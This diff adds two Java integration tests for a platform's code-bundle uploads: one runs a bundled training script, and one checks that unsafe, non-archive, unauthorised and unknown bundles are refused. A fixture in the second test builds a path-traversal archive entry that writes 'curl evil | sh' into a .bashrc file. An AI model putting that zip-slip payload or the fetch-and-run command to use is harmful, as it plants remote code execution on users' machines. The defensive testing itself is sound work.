@@ -5,6 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import io.slipway.devstack.SampleModels;
 import io.slipway.it.support.Api;
+import io.slipway.it.support.Buckets;
+import io.slipway.it.support.CodeBundles;
 import io.slipway.it.support.Poll;
 import io.slipway.it.support.ApiTestBase;
 import io.slipway.it.support.Digests;
@@ -94,6 +96,60 @@ class RunsIT extends ApiTestBase {
         Api.Reply carolApproves = api.post(Users.token("carol"), promotion + "/approve", Map.of("comment", "ok"));
         assertThat(bobApproves.status()).isEqualTo(403);
         assertThat(carolApproves.status()).as("%s", carolApproves).isEqualTo(200);
+    }
+
+    @Test
+    void aRunStartsFromItsCodeBundleUnpackedInItsWorkingDirectory() {
+        byte[] bundle = CodeBundles.tarGz(Map.of("train.sh", "#!/bin/sh\necho \"from the bundle in $PWD\"\n"
+                + "cat conf/settings.txt\n", "conf/settings.txt", "learning rate 0.01\n"));
+        String bundles = acme.projectPath() + "/code-bundles";
+        Api.Reply uploaded = uploads.raw(Users.token("bob"), bundles + "?fileName=train.tar.gz", "application/gzip",
+                bundle);
+        assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
+        String id = uploaded.json().path("id").asText();
+        assertThat(uploaded.json().path("format").asText()).isEqualTo("tar.gz");
+        assertThat(uploaded.json().path("files").asInt()).isEqualTo(2);
+        assertThat(uploads.raw(Users.token("carol"), bundles, "application/octet-stream", bundle).json()
+                .path("id").asText()).as("the same bytes are the same bundle").isEqualTo(id);
+
+        JsonNode run = start(acme, "bob", Map.of("command", List.of("./train.sh"), "codeBundle", id,
+                "resources", SMALL));
+        JsonNode ended = awaitRun(acme, run, r -> ended(r));
+        String log = api.get(Users.token("dave"), runPath(acme, run) + "/logs").body();
+
+        assertThat(ended.path("state").asText()).as("%s\n%s", ended, log).isEqualTo("succeeded");
+        assertThat(ended.path("codeBundle").asText()).isEqualTo(id);
+        assertThat(log).containsPattern("stdout from the bundle in \\S+/code").contains("stdout learning rate 0.01");
+        assertThat(api.get(Users.token("dave"), bundles).json().findValuesAsText("id")).containsExactly(id);
+        assertThat(actions(acme)).contains("code-bundle.uploaded");
+    }
+
+    @Test
+    void aBundleThatIsNoSafeArchiveIsRefusedAndLeavesNothingAndRunsNameOnlyTheirProjectsBundles() {
+        String bundles = acme.projectPath() + "/code-bundles";
+        java.util.Set<String> before = Buckets.keys(acme);
+        byte[] escaping = CodeBundles.tarGz(Map.of("../../home/slipway/.bashrc", "curl evil | sh\n"));
+
+        Api.Reply unsafe = uploads.raw(Users.token("bob"), bundles + "?fileName=x.tar.gz", "application/gzip",
+                escaping);
+        Api.Reply notAnArchive = uploads.raw(Users.token("bob"), bundles + "?fileName=train.py", "text/x-python",
+                "print('hi')\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        Api.Reply byViewer = uploads.raw(Users.token("dave"), bundles, "application/gzip",
+                CodeBundles.tarGz(Map.of("a.py", "1")));
+        Api.Reply unknown = api.post(Users.token("bob"), acme.projectPath() + "/runs", Map.of("command",
+                List.of("true"), "codeBundle", java.util.UUID.randomUUID().toString()));
+
+        assertThat(unsafe.status()).as("%s", unsafe).isEqualTo(400);
+        assertThat(unsafe.contentType()).startsWith("application/problem+json");
+        assertThat(unsafe.body()).contains("not a relative path inside the bundle").contains("\"field\":\"file\"");
+        assertThat(notAnArchive.status()).isEqualTo(400);
+        assertThat(notAnArchive.body()).contains("tar, tar.gz or zip");
+        assertThat(byViewer.status()).isEqualTo(403);
+        assertThat(unknown.status()).as("%s", unknown).isEqualTo(422);
+        assertThat(unknown.json().path("errors").findValuesAsText("field")).contains("codeBundle");
+        assertThat(Buckets.keys(acme)).as("a refused bundle leaves no object").isEqualTo(before);
+        assertThat(api.get(Users.token("bob"), bundles).json()).isEmpty();
+        assertThat(api.get(Users.token("erin"), bundles).status()).isEqualTo(404);
     }
 
     @Test
